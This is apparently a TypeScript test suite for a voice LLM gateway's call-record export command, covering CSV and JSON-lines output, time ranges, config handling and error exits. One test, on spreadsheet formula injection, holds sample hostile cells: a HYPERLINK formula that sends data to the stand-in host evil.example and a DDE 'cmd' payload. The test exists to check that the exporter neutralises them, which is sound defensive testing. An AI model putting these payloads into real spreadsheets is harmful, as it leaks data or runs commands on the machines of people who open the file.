import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { CALLS_USAGE, CSV_HEADER, csvRow, csvValues, runCalls } from '../../src/cli/commands/calls.ts';
import { parseTimeBound } from '../../src/store/time-bound.ts';
import { openRecordStore } from '../../src/store/open-store.ts';
import type { TurnRecord } from '../../src/store/turn-record.ts';
import { textSink } from '../support/text-sink.ts';

const NOW = new Date('2026-03-01T12:00:00.000Z');
const minutesAgo = (minutes: number) => new Date(NOW.getTime() - minutes * 60_000).toISOString();

function turn(overrides: Partial<TurnRecord> & { id: string; startedAt: string }): TurnRecord {
  return {
    endedAt: new Date(Date.parse(overrides.startedAt) + 2000).toISOString(),
    instanceId: 'call-1',
    channelId: 'channel-1',
    sentenceId: 1,
    callerNumber: '138****0001',
    calleeNumber: '0571****000',
    userData: '{"name":"Li Lei"}',
    agent: 'sales',
    provider: 'primary',
    attempts: [{ provider: 'primary', model: 'm-1', outcome: 'committed', errorCode: null, ms: 120 }],
    callerText: 'hello',
    answerText: 'Hi there.',
    toolRuns: [],
    signal: null,
    finishReason: 'stop',
    outcome: 'ok',
    httpStatus: 200,
    ttftMs: 101.5,
    firstSentenceMs: 230,
    totalMs: 2000,
    promptTokens: 12,
    completionTokens: 7,
    cancellation: null,
    errorCode: null,
    errorMessage: null,
    synthetic: null,
    platform: 'ims',
    timings: { upstreamSentMs: 0.5, firstUpstreamTokenMs: 100, firstByteMs: 101.5, lastByteMs: 1990 },
    ...overrides,
  };
}

const OLD = turn({ id: 'old-1', startedAt: minutesAgo(120) });
const RECENT: TurnRecord[] = [
  turn({ id: 'new-1', startedAt: minutesAgo(50), sentenceId: 1 }),
  turn({
    id: 'new-2',
    startedAt: minutesAgo(40),
    sentenceId: 2,
    // Everything CSV must quote: commas, quotes, line breaks, edge spaces, non-ASCII.
    callerText: 'Is it "ready", or not?\nPlease check',
    answerText: ' 您好，订单已发货 😀, thanks\r\n',
    toolRuns: [{ name: 'lookup_order', arguments: '{"id":"4,2"}', ok: true, error: null, status: 200, result: 'shipped "today"', ms: 80 }],
    signal: 'transfer:human',
  }),
  turn({
    id: 'new-3',
    startedAt: minutesAgo(10),
    instanceId: null,
    channelId: null,
    sentenceId: null,
    callerNumber: null,
    calleeNumber: null,
    userData: null,
    provider: null,
    attempts: [],
    outcome: 'error',
    httpStatus: 502,
    ttftMs: null,
    firstSentenceMs: null,
    promptTokens: null,
    completionTokens: null,
    errorCode: 'upstream_error',
    errorMessage: 'all providers failed',
    finishReason: null,
  }),
];

/** RFC 4180: quoted fields may hold commas, doubled quotes and line breaks; rows end with CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') {
      assert.equal(field, '', 'a quote inside an unquoted field');
      quoted = true;
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      assert.ok(c !== '\n' && c !== '\r', 'a bare line break outside quotes');
      field += c;
    }
  }
  assert.equal(quoted, false, 'an unterminated quoted field');
  assert.deepEqual(row, [], 'the last row must end with CRLF');
  assert.equal(field, '');
  return rows;
}

/** A CSV row back to a record: empty means null; numbers and JSON columns decoded. */
function fromCsv(header: string[], row: string[]): Record<string, unknown> {
  const numeric = new Set(['sentenceId', 'httpStatus', 'ttftMs', 'firstSentenceMs', 'totalMs', 'promptTokens', 'completionTokens']);
  const json = new Set(['attempts', 'toolRuns', 'timings']);
  return Object.fromEntries(
    header.map((name, i) => {
      const value = row[i]!;
      if (json.has(name)) return [name, JSON.parse(value)];
      if (value === '') return [name, null];
      return [name, numeric.has(name) ? Number(value) : value];
    }),
  );
}

describe('voice-llm-gateway calls export (real SQLite store)', () => {
  let dir: string;
  let configFile: string;

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'vlg-calls-'));
    const dataDir = join(dir, 'data');
    configFile = join(dir, 'config.yaml');
    writeFileSync(
      configFile,
      [
        'server:',
        `  dataDir: ${JSON.stringify(dataDir)}`,
        'records:',
        '  sqliteFile: calls.db',
        'providers:',
        '  demo: { type: scripted }',
        'agents:',
        '  sales: { provider: demo }',
      ].join('\n'),
    );
    const store = openRecordStore({ sqlitePath: join(dataDir, 'calls.db'), queueSize: 100, batchSize: 50, flushIntervalMs: 10 });
    await store.ready();
    for (const record of [OLD, ...RECENT].reverse()) store.enqueue(record);
    await store.flush();
    assert.equal(store.written, 4);
    await store.close();
  });

  after(() => rmSync(dir, { recursive: true, force: true }));

  const run = async (args: string[], env: Record<string, string | undefined> = {}) => {
    const output = textSink();
    const error = textSink();
    const code = await runCalls(args, { output, error, env, cwd: dir, now: () => NOW });
    return { code, output: output.text(), error: error.text() };
  };

  it('exports the turns since a duration as CSV, oldest first, that parses back to the records', async () => {
    const { code, output, error } = await run(['export', '--since', '1h', '--format', 'csv', '--config', configFile]);
    assert.equal(code, 0, error);
    assert.match(error, /exported 3 turns since 2026-03-01T11:00:00\.000Z/);
    const [header, ...rows] = parseCsv(output);
    assert.deepEqual(header, [...CSV_HEADER]);
    assert.equal(header!.length, Object.keys(RECENT[0]!).length);
    assert.equal(rows.length, 3);
    assert.deepEqual(
      rows.map((row) => fromCsv(header!, row)),
      RECENT,
    );
    // Nested values are JSON text in one column.
    assert.equal(rows[1]![header!.indexOf('toolRuns')], JSON.stringify(RECENT[1]!.toolRuns));
  });

  it('exports JSON lines (the default format), one TurnRecord per line', async () => {
    const { code, output, error } = await run(['export', '--since', '2026-03-01T10:30:00Z', '--config', configFile]);
    assert.equal(code, 0, error);
    assert.ok(output.endsWith('\n'));
    const lines = output.trimEnd().split('\n');
    assert.equal(lines.length, 3);
    assert.deepEqual(
      lines.map((line) => JSON.parse(line) as TurnRecord),
      RECENT,
    );
  });

  it('takes dates, longer durations and the "calls" word itself', async () => {
    const all = await run(['calls', 'export', '--since', '2026-02-28', '--format', 'jsonl', '--config', configFile]);
    assert.equal(all.code, 0, all.error);
    assert.deepEqual(
      all.output
        .trimEnd()
        .split('\n')
        .map((line) => (JSON.parse(line) as TurnRecord).id),
      ['old-1', 'new-1', 'new-2', 'new-3'],
    );
    const week = await run(['export', '--since', '7d', '--config', configFile]);
    assert.equal(week.output.trimEnd().split('\n').length, 4);
    const none = await run(['export', '--since', '5m', '--format', 'csv', '--config', configFile]);
    assert.equal(none.code, 0);
    assert.deepEqual(parseCsv(none.output), [[...CSV_HEADER]]);
    assert.match(none.error, /exported 0 turns/);
  });

  it('writes to --output (creating its folder) instead of stdout', async () => {
    const file = join(dir, 'out', 'nested', 'turns.csv');
    const { code, output, error } = await run(['export', '--since', '1h', '--format', 'csv', '--config', configFile, '--output', file]);
    assert.equal(code, 0, error);
    assert.equal(output, '');
    assert.match(error, /to .*turns\.csv/);
    const [header, ...rows] = parseCsv(readFileSync(file, 'utf8'));
    assert.deepEqual(
      rows.map((row) => fromCsv(header!, row)),
      RECENT,
    );
    // Relative to the working folder.
    const relative = await run(['export', '--since', '1h', '--config', configFile, '-o', 'relative.jsonl']);
    assert.equal(relative.code, 0, relative.error);
    assert.equal(readFileSync(join(dir, 'relative.jsonl'), 'utf8').trimEnd().split('\n').length, 3);
  });

  it('finds the config through GATEWAY_CONFIG and a relative dataDir from the working folder', async () => {
    const viaEnv = await run(['export', '--since', '1h'], { GATEWAY_CONFIG: configFile });
    assert.equal(viaEnv.code, 0, viaEnv.error);
    assert.equal(viaEnv.output.trimEnd().split('\n').length, 3);
    const relativeConfig = join(dir, 'relative.yaml');
    writeFileSync(
      relativeConfig,
      [
        'server:',
        '  dataDir: ./data',
        'records:',
        '  sqliteFile: calls.db',
        'providers:',
        '  demo: { type: scripted }',
        'agents:',
        '  sales: { provider: demo }',
      ].join('\n'),
    );
    const relative = await run(['export', '--since', '1h', '--config', 'relative.yaml']);
    assert.equal(relative.code, 0, relative.error);
    assert.equal(relative.output.trimEnd().split('\n').length, 3);
  });

  it('refuses bad options with the usage (exit 2)', async () => {
    const cases: string[][] = [
      [],
      ['export'],
      ['import', '--since', '1h'],
      ['export', '--since', 'yesterday'],
      ['export', '--since', '2026-02-30'],
      ['export', '--since', '2026-03-01T10:00:00'],
      ['export', '--since', '1h', '--format', 'xml'],
      ['export', '--since', '1h', '--until', 'later'],
      ['export', '--since', '1h', '--until', '2h'],
      ['export', '--since', '1h', '--synthetic', 'no'],
      ['export', '--since', '1h', '--bogus'],
      ['export', 'extra', '--since', '1h'],
    ];
    for (const args of cases) {
      const { code, output, error } = await run([...args, '--config', configFile]);
      assert.equal(code, 2, args.join(' '));
      assert.equal(output, '');
      assert.ok(error.includes(CALLS_USAGE), args.join(' '));
    }
  });

  it('prints the help', async () => {
    const { code, output } = await run(['export', '--help']);
    assert.equal(code, 0);
    assert.equal(output, CALLS_USAGE);
  });

  it('fails clearly (exit 1) when there is no records database, without creating one', async () => {
    const emptyData = join(dir, 'empty-data');
    mkdirSync(emptyData);
    const config = join(dir, 'empty.yaml');
    writeFileSync(
      config,
      `server: { dataDir: ${JSON.stringify(emptyData)} }\nproviders: { demo: { type: scripted } }\nagents: { a: { provider: demo } }\n`,
    );
    const { code, error } = await run(['export', '--since', '1h', '--config', config]);
    assert.equal(code, 1);
    assert.match(error, /no records database at .*records\.db/);
    assert.equal(existsSync(join(emptyData, 'records.db')), false);
  });

  it('ends the range with --until (exclusive) and selects test traffic with --synthetic', async () => {
    const ids = (output: string) =>
      output
        .trimEnd()
        .split('\n')
        .filter((line) => line !== '')
        .map((line) => (JSON.parse(line) as TurnRecord).id);
    const until = await run(['export', '--since', '2h', '--until', minutesAgo(40), '--config', configFile]);
    assert.equal(until.code, 0, until.error);
    assert.deepEqual(ids(until.output), ['old-1', 'new-1']);
    assert.match(until.error, /exported 2 turns since 2026-03-01T10:00:00\.000Z until 2026-03-01T11:20:00\.000Z/);
    const durations = await run(['export', '--since', '1h', '--until', '30m', '--config', configFile]);
    assert.deepEqual(ids(durations.output), ['new-1', 'new-2']);
    // new-3 is a check run's turn.
    const dataDir = join(dir, 'synthetic-data');
    const config = join(dir, 'synthetic.yaml');
    writeFileSync(config, `server: { dataDir: ${JSON.stringify(dataDir)} }\n`);
    const store = openRecordStore({ sqlitePath: join(dataDir, 'records.db'), queueSize: 100, batchSize: 50, flushIntervalMs: 10 });
    store.enqueue(turn({ id: 'real-1', startedAt: minutesAgo(20) }));
    store.enqueue(turn({ id: 'check-1', startedAt: minutesAgo(10), synthetic: 'check' }));
    await store.close();
    const every = await run(['export', '--since', '1h', '--config', config]);
    assert.deepEqual(ids(every.output), ['real-1', 'check-1']);
    assert.deepEqual(ids((await run(['export', '--since', '1h', '--synthetic', 'exclude', '--config', config])).output), ['real-1']);
    assert.deepEqual(ids((await run(['export', '--since', '1h', '--synthetic', 'only', '--config', config])).output), ['check-1']);
  });

  it('needs no upstream secret: only server.dataDir and records are read from the config', async () => {
    const config = join(dir, 'secrets.yaml');
    writeFileSync(
      config,
      [
        'server:',
        `  dataDir: ${JSON.stringify(join(dir, 'data'))}`,
        '  apiKeys: ["${GATEWAY_KEY}"]',
        'records:',
        '  sqliteFile: calls.db',
        'providers:',
        '  qwen: { type: openai-compatible, baseUrl: "https://dashscope.aliyuncs.com/compatible-mode/v1", apiKey: "${DASHSCOPE_API_KEY}" }',
        'agents:',
        '  sales: { provider: qwen, model: qwen-plus }',
      ].join('\n'),
    );
    const { code, output, error } = await run(['export', '--since', '1h', '--config', config], {});
    assert.equal(code, 0, error);
    assert.equal(output.trimEnd().split('\n').length, 3);
    // A variable the records section needs is still required.
    writeFileSync(config, 'server: { dataDir: "${RECORDS_DIR}" }\n');
    const missing = await run(['export', '--since', '1h', '--config', config], {});
    assert.equal(missing.code, 78);
    assert.match(missing.error, /RECORDS_DIR is not set/);
  });

  it('reports an invalid config (exit 78)', async () => {
    const config = join(dir, 'broken.yaml');
    writeFileSync(config, 'agents: {}\nrecords: { batchSize: 0 }\n');
    const { code, error } = await run(['export', '--since', '1h', '--config', config]);
    assert.equal(code, 78);
    assert.match(error, /Invalid configuration/);
  });

  it('streams a large export page by page into a slow output, in order and complete', async () => {
    const dataDir = join(dir, 'big-data');
    const config = join(dir, 'big.yaml');
    writeFileSync(
      config,
      `server: { dataDir: ${JSON.stringify(dataDir)} }\nproviders: { demo: { type: scripted } }\nagents: { a: { provider: demo } }\n`,
    );
    const store = openRecordStore({ sqlitePath: join(dataDir, 'records.db'), queueSize: 5000, batchSize: 500, flushIntervalMs: 10 });
    await store.ready();
    const count = 1234;
    for (let i = 0; i < count; i++) {
      // Several turns share a start time: the export orders them by id after the time.
      store.enqueue(turn({ id: `t-${String(i).padStart(5, '0')}`, startedAt: minutesAgo(30 - Math.floor(i / 100)) }));
    }
    await store.flush();
    await store.close();
    let text = '';
    let writes = 0;
    const slow = new Writable({
      highWaterMark: 1024,
      write(chunk: Buffer, _encoding, callback) {
        text += chunk.toString();
        writes += 1;
        setTimeout(callback, 1);
      },
    });
    const error = textSink();
    const code = await runCalls(['export', '--since', '1h', '--config', config], {
      output: slow,
      error,
      env: {},
      cwd: dir,
      now: () => NOW,
    });
    assert.equal(code, 0, error.text());
    const ids = text
      .trimEnd()
      .split('\n')
      .map((line) => (JSON.parse(line) as TurnRecord).id);
    assert.equal(ids.length, count);
    assert.deepEqual(ids, [...ids].sort());
    assert.equal(new Set(ids).size, count);
    assert.ok(writes >= 3, `${writes} writes`);
  });

  it('CSV: cells a spreadsheet would run as formulas start with a quote; numbers stay numbers', () => {
    const record = turn({
      id: 'formula-1',
      startedAt: minutesAgo(5),
      callerText: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      answerText: '+1+1',
      userData: "-2+3+cmd|' /C calc'!A0",
      errorMessage: '@SUM(A1:A2)',
      channelId: '\t=1+1',
      calleeNumber: '\r=1+1',
      errorCode: 'plain',
      sentenceId: -1,
    });
    const header = [...CSV_HEADER];
    const cell = (row: string[], name: keyof TurnRecord) => row[header.indexOf(name)];
    const [row] = parseCsv(csvRow(csvValues(record)));
    assert.ok(row);
    assert.equal(cell(row, 'callerText'), `'${record.callerText}`);
    assert.equal(cell(row, 'answerText'), "'+1+1");
    assert.equal(cell(row, 'userData'), `'${record.userData}`);
    assert.equal(cell(row, 'errorMessage'), "'@SUM(A1:A2)");
    assert.equal(cell(row, 'channelId'), "'\t=1+1");
    assert.equal(cell(row, 'calleeNumber'), "'\r=1+1");
    assert.equal(cell(row, 'errorCode'), 'plain');
    assert.equal(cell(row, 'sentenceId'), '-1');
    // No cell of the row starts a formula.
    for (const value of row) assert.doesNotMatch(value, /^[=+@\t\r]|^-[^0-9]/);
  });

  it('parseTimeBound (--since, --until, from, to): durations back from now and ISO times, canonical UTC', () => {
    assert.equal(parseTimeBound('24h', NOW), '2026-02-28T12:00:00.000Z');
    assert.equal(parseTimeBound('90m', NOW), '2026-03-01T10:30:00.000Z');
    assert.equal(parseTimeBound('2w', NOW), '2026-02-15T12:00:00.000Z');
    assert.equal(parseTimeBound('1.5d', NOW), '2026-02-28T00:00:00.000Z');
    assert.equal(parseTimeBound('2026-11-01', NOW), '2026-11-01T00:00:00.000Z');
    assert.equal(parseTimeBound('2026-11-01T08:00:00+08:00', NOW), '2026-11-01T00:00:00.000Z');
    assert.equal(parseTimeBound('-1h', NOW), undefined);
    assert.equal(parseTimeBound('1y', NOW), undefined);
    assert.equal(parseTimeBound('2026-02-30', NOW), undefined);
    assert.equal(parseTimeBound('2026-11-01T08:00:00', NOW), undefined);
  });
});
